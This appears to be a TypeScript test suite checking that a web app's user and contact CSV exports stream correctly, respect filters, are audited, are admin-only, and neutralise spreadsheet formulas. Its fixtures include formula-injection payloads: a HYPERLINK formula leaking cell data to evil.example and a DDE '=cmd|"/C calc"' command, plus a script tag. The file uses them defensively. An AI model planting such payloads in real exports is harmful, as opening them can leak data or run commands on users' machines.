import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { ApiMessages, type UserRecord } from '@threadline/contracts';
import type { AuditEntryData } from '../src/audit/schemas/audit-entry.schema';
import { fakeUser } from '../src/seed/seed-fake-users';
import { searchFieldsOf } from '../src/users/user-search';
import {
  reindexUsers,
  signedInAdmin,
  signedInPerson,
  type SignedInAccount,
} from './support/people';
import { startTestApp, type TestApp } from './support/test-app';

/** What a spreadsheet would read from the body: one object per row, keyed by the header. */
const rowsOf = (csv: string): Record<string, string>[] =>
  parse(csv, { columns: true, skip_empty_lines: false });

async function download(testApp: TestApp, token: string, path: string) {
  const chunks: number[] = [];
  const response = await request(testApp.server)
    .get(path)
    .auth(token, { type: 'bearer' })
    .buffer(true)
    .parse((res, callback) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => {
        chunks.push(chunk.length);
        text += chunk;
      });
      res.on('end', () => callback(null, text));
    });
  return { response, text: response.body as string, chunks };
}

const NAUGHTY_NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tTabbed',
  'Ana "the boss", Weaver',
  'Two\nLines',
  'Ünïcödé 名前 🎉 <script>alert(1)</script>',
];

async function insertUsers(testApp: TestApp, names: string[]): Promise<string[]> {
  const emails = names.map((_, i) => `naughty-${i}-${Date.now().toString(36)}@example.test`);
  await testApp.db.collection('users').insertMany(
    names.map((name, i) => ({
      uid: `naughty-${i}-${emails[i]}`,
      name,
      email: emails[i],
      role: 'user',
      status: 'Active',
      emailVerified: true,
      refCode: `N${i}${Date.now().toString(36)}`.slice(0, 12),
      createdAt: new Date(),
      ...searchFieldsOf(name, emails[i]),
    })),
  );
  await reindexUsers(testApp);
  return emails;
}

describe.each(['auto', 'database'])('GET /users/export.csv (USERS_SEARCH=%s)', (mode) => {
  let testApp: TestApp;
  let admin: SignedInAccount;
  let naughtyEmails: string[];

  beforeAll(async () => {
    testApp = await startTestApp({ USERS_SEARCH: mode });
    admin = await signedInAdmin(testApp, { displayName: 'Export Admin' });
    naughtyEmails = await insertUsers(testApp, NAUGHTY_NAMES);
  });

  afterAll(async () => {
    await testApp?.close();
  });

  it('answers a CSV attachment with a header row and the same users, in the same order, as GET /users', async () => {
    const { response, text } = await download(
      testApp,
      admin.token,
      '/users/export.csv?sort=email&order=asc',
    );

    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="users.csv"');
    expect(response.headers['cache-control']).toBe('no-store');
    expect(text.split('\r\n')[0]).toBe(
      '"id","name","email","role","status","emailVerified","phoneNumber","createdAt"',
    );
    const listed = await request(testApp.server)
      .get('/users?sort=email&order=asc&limit=100')
      .auth(admin.token, { type: 'bearer' })
      .expect(200);
    expect(rowsOf(text).map((row) => row.email)).toEqual(
      (listed.body as UserRecord[]).map((user) => user.email),
    );
  });

  it('takes the filters of GET /users', async () => {
    const { text } = await download(testApp, admin.token, '/users/export.csv?role=admin');
    expect(rowsOf(text)).toEqual([expect.objectContaining({ email: admin.email, role: 'admin' })]);

    const searched = await download(testApp, admin.token, '/users/export.csv?search=export');
    expect(rowsOf(searched.text).map((row) => row.name)).toEqual(['Export Admin']);
  });

  it('neutralises formulas and quotes every special character, as RFC 4180 says', async () => {
    const { text } = await download(testApp, admin.token, '/users/export.csv');
    const byEmail = new Map(rowsOf(text).map((row) => [row.email, row]));

    expect(NAUGHTY_NAMES.map((_, i) => byEmail.get(naughtyEmails[i])?.name)).toEqual([
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      "'+SUM(1,2)",
      "'-2+3",
      "'@cmd",
      "'\tTabbed",
      'Ana "the boss", Weaver',
      'Two\nLines',
      'Ünïcödé 名前 🎉 <script>alert(1)</script>',
    ]);
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"');
    expect(text).toContain('"Ana ""the boss"", Weaver"');
  });

  it('is itself an audit entry, naming the filters', async () => {
    const entries = testApp.db.collection<AuditEntryData>('auditEntries');
    const before = await entries.countDocuments({ action: 'users.exported' });

    await download(testApp, admin.token, '/users/export.csv?role=user&search=ana');

    const written = await entries.find({ action: 'users.exported' }).sort({ _id: -1 }).toArray();
    expect(written).toHaveLength(before + 1);
    expect(written[0]).toMatchObject({
      actor: { id: admin.recordId, email: admin.email },
      target: { type: 'export', id: 'users', label: 'search=ana, role=user' },
    });
  });

  it('answers 400 with the field message for a bad filter, and 403 to a member', async () => {
    const bad = await request(testApp.server)
      .get('/users/export.csv?role=boss')
      .auth(admin.token, { type: 'bearer' });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toEqual([ApiMessages.roleFilterInvalid]);

    const person = await signedInPerson(testApp);
    await request(testApp.server)
      .get('/users/export.csv')
      .auth(person.token, { type: 'bearer' })
      .expect(403);
  });
});

describe('an export of 10,000 users', () => {
  let testApp: TestApp;
  let admin: SignedInAccount;
  const COUNT = 10_000;

  beforeAll(async () => {
    testApp = await startTestApp();
    admin = await signedInAdmin(testApp);
    const users = testApp.db.collection('users');
    for (let first = 1; first <= COUNT; first += 2000) {
      await users.insertMany(
        Array.from({ length: 2000 }, (_, i) => ({ ...fakeUser(first + i), role: 'user' })),
      );
    }
    await reindexUsers(testApp);
  }, 120_000);

  afterAll(async () => {
    await testApp?.close();
  });

  it('streams: the body arrives in many chunks, without a Content-Length, and holds every user', async () => {
    const { response, text, chunks } = await download(
      testApp,
      admin.token,
      '/users/export.csv?role=user',
    );

    expect(response.status).toBe(200);
    expect(response.headers['content-length']).toBeUndefined();
    expect(response.headers['transfer-encoding']).toBe('chunked');
    // About 1 MB written 16 kB at a time: built as one string it would leave in one piece.
    expect(chunks.length).toBeGreaterThan(20);
    expect(Math.max(...chunks)).toBeLessThan(text.length / 10);
    const rows = rowsOf(text);
    expect(rows).toHaveLength(COUNT);
    expect(rows[0].email).toBe(`user-${COUNT}@bench.threadline.test`);
  }, 60_000);
});

describe('GET /contacts/export.csv', () => {
  let testApp: TestApp;
  let admin: SignedInAccount;

  beforeAll(async () => {
    testApp = await startTestApp();
    admin = await signedInAdmin(testApp);
    const now = Date.now();
    await testApp.db.collection('contacts').insertMany([
      {
        name: 'Old',
        email: 'old@brand.example',
        message: 'The first message.',
        read: true,
        createdAt: new Date(now - 60_000),
      },
      {
        name: '=cmd|"/C calc"!A0',
        email: 'new@brand.example',
        subject: 'Quote, urgent',
        message: 'Line one\r\nline "two"',
        read: false,
        createdAt: new Date(now),
      },
    ]);
  });

  afterAll(async () => {
    await testApp?.close();
  });

  it('answers every message, newest first, as a CSV attachment, formulas neutralised', async () => {
    const { response, text } = await download(testApp, admin.token, '/contacts/export.csv');

    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="contact-messages.csv"',
    );
    expect(rowsOf(text)).toEqual([
      expect.objectContaining({
        name: '\'=cmd|"/C calc"!A0',
        email: 'new@brand.example',
        subject: 'Quote, urgent',
        message: 'Line one\r\nline "two"',
        read: 'false',
      }),
      expect.objectContaining({ name: 'Old', subject: '', read: 'true' }),
    ]);
  });

  it('quotes every cell and neutralises a formula after a separator, read with , or ; as the delimiter', async () => {
    await testApp.db.collection('contacts').insertOne({
      name: 'x;=HYPERLINK(http://evil.example);',
      email: 'split@brand.example',
      message: 'A cell a ;-locale spreadsheet would split.',
      read: false,
      createdAt: new Date(Date.now() - 30_000),
    });
    const { text } = await download(testApp, admin.token, '/contacts/export.csv');
    const line = text.split('\r\n').find((row) => row.includes('split@brand.example'))!;

    // RFC 4180 with the comma: the name stays one cell, its formula shown as text.
    const byComma = parse(text, { columns: true }) as Record<string, string>[];
    expect(byComma.find((row) => row.email === 'split@brand.example')?.name).toBe(
      "x;'=HYPERLINK(http://evil.example);",
    );
    // A locale whose separator is ';', reading the lines as they come (quotes and all).
    const bySemicolon = parse(text, {
      delimiter: ';',
      quote: false,
      relax_column_count: true,
    }) as string[][];
    const startsAsFormula = (cell: string) => /^"?\s*=/.test(cell);
    expect(bySemicolon.flat().filter(startsAsFormula)).toEqual([]);
    expect(byComma.flatMap((row) => Object.values(row)).filter(startsAsFormula)).toEqual([]);
    // Every cell in double quotes, the header's too.
    expect(text.split('\r\n')[0]).toMatch(/^"id","name","email",/);
    expect(line.split('","').length).toBe(parse(line)[0].length);
    expect(line.startsWith('"') && line.endsWith('"')).toBe(true);
  });

  it('takes the inbox search: text in the name, email, subject or message, any case', async () => {
    const { text } = await download(testApp, admin.token, '/contacts/export.csv?search=QUOTE');
    expect(rowsOf(text).map((row) => row.email)).toEqual(['new@brand.example']);
    const byMessage = await download(testApp, admin.token, '/contacts/export.csv?search=first');
    expect(rowsOf(byMessage.text).map((row) => row.email)).toEqual(['old@brand.example']);
    const literal = await download(testApp, admin.token, '/contacts/export.csv?search=.*');
    expect(rowsOf(literal.text)).toEqual([]);
  });

  it('is itself an audit entry, and for admins only', async () => {
    const entries = testApp.db.collection<AuditEntryData>('auditEntries');
    const before = await entries.countDocuments({ action: 'contacts.exported' });
    await download(testApp, admin.token, '/contacts/export.csv');
    expect(await entries.countDocuments({ action: 'contacts.exported' })).toBe(before + 1);

    const person = await signedInPerson(testApp);
    await request(testApp.server)
      .get('/contacts/export.csv')
      .auth(person.token, { type: 'bearer' })
      .expect(403);
    expect(await entries.countDocuments({ action: 'contacts.exported' })).toBe(before + 1);
  });
});
